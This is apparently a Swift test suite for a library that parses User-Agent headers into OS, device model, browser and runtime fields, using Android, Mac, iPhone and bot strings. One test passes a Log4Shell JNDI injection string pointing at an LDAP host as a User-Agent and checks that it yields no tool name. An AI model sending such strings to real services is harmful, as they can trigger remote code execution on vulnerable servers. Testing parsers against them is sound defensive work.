import Analysis
import Model
import Testing

@Suite struct `A User-Agent` {
  private func told(_ agent: String) -> AnalysisResult {
    var scene = Scene()
    scene.request(
      "api.openai.com/v1/responses", [("user-agent", agent)], json: #"{"model":"gpt-5"}"#)
    return scene.result()
  }

  @Test(arguments: [
    ("Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5 Build/M4B30Z) AppleWebKit/537.36", "Nexus 5"),
    ("Mozilla/5.0 (Linux; U; Android 4.4.4; en-us; MI 3W Build/KTU84P) AppleWebKit/5", "MI 3W"),
    ("Dalvik/2.1.0 (Linux; U; Android 6.0.1; SM-G973F Build/R16NW)", "SM-G973F"),
    ("Dalvik/1.6.0 (Linux; U; Android 4.4.4; MI 3W MIUI/V6.4.2.0.KXDMICB)", "MI 3W"),
  ])
  func `of an Android device names system and model`(agent: String, model: String) {
    let result = told(agent)
    #expect(result.values("machine.os") == ["Android"])
    #expect(result.values("machine.os_version").allSatisfy { $0.hasPrefix("Android ") })
    #expect(result.values("machine.os_version").count == 1)
    #expect(result.values("machine.model") == [model])
  }

  @Test(arguments: [
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 Chrome/120.0.0.0 Mobile",
    "Mozilla/5.0 (Android 14; Mobile; rv:120.0) Gecko/120.0 Firefox/120.0",
    "Mozilla/5.0 (Linux; Android 11.0; Build/RQ1A.210105.003) AppleWebKit/537.36",
  ])
  func `that keeps the model back names none`(agent: String) {
    let result = told(agent)
    #expect(result.values("machine.os") == ["Android"])
    #expect(result.values("machine.model") == [])
  }

  @Test func `of a Mac names the release`() {
    let result = told(
      "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_13_6) AppleWebKit/537.36 Chrome/70.0")
    #expect(result.values("machine.os_version") == ["Mac OS X 10_13_6"])
  }

  @Test func `of a phone names the release`() {
    let result = told("Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1")
    #expect(result.values("machine.os") == ["iPhone"])
    #expect(result.values("machine.os_version") == ["iPhone OS 17_2"])
  }

  @Test(arguments: [
    "Mozilla", "Mozilla/5.0",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
  ])
  func `that names no browser is none`(agent: String) {
    #expect(told(agent).values("machine.browser") == [])
  }

  @Test func `with words that are no product names no tool`() {
    let result = told("${jndi:ldap://172.16.238.11:1389/a}")
    #expect(result.values("toolchain.tool_version") == [])
  }

  @Test func `of Android's virtual machine is a runtime`() {
    let result = told("Dalvik/2.1.0 (Linux; U; Android 6.0.1; SM-G973F Build/R16NW)")
    #expect(result.values("toolchain.runtime") == ["Dalvik/2.1.0"])
    #expect(result.values("toolchain.tool_version") == [])
  }
}
